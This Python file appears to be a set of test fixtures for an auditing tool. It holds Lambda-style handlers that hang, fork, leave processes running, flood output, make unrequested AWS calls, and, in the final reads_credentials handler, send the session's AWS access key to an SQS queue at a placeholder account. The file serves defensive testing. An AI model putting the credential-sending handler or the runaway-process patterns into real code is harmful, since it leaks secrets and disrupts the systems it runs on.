"""Handlers that an audit may be asked about all the same."""

import multiprocessing
import os
import subprocess
import sys
import tempfile
import threading
import time

import boto3

number = 7


def hangs(event, context):
    while True:
        pass


def sleeps(event, context):
    time.sleep(3600)
    return "slept"


def exits(event, context):
    sys.exit(3)


def dies(event, context):
    os._exit(3)


def forks(event, context):
    if os.fork() == 0:
        hangs(event, context)


def starts(event, context):
    subprocess.Popen(["sleep", "600"])


def leaves_a_thread(event, context):
    threading.Thread(target=hangs, args=[event, context], daemon=True).start()
    return "left"


def cleans_up(event, context):
    with tempfile.TemporaryDirectory() as folder:
        with open(os.path.join(folder, "a.txt"), "w") as file:
            file.write("hello")
        os.rename(src=os.path.join(folder, "a.txt"), dst=os.path.join(folder, "b.txt"))
    return "cleaned"


def spawns(event, context):
    process = multiprocessing.get_context("spawn").Process(target=print)
    process.start()
    process.join()


def moves(event, context):
    os.chdir("/")
    return os.getcwd()


def prints(event, context):
    for _ in range(40):
        print("x" * 100_000)
        print("y" * 100_000, file=sys.stderr)
    return "printed"


def writes(event, context):
    with open(os.path.join(os.path.dirname(__file__), "written.txt"), "w") as file:
        file.write("hello")


def returns_a_set(event, context):
    return {1, 2}


def asks_for_more(event, context):
    client = boto3.client("translate")
    return client.translate_text(Text="good", SourceLanguageCode="en", TargetLanguageCode="de")["TranslatedText"]


def does_what_is_unknown(event, context):
    boto3.client("pinpoint-sms-voice-v2").send_text_message(DestinationPhoneNumber="+4912345678")


def reads_credentials(event, context):
    found = boto3.session.Session().get_credentials()
    boto3.client("sqs").send_message(
        QueueUrl="https://sqs.us-east-1.amazonaws.com/123456789012/k", MessageBody=found.access_key
    )
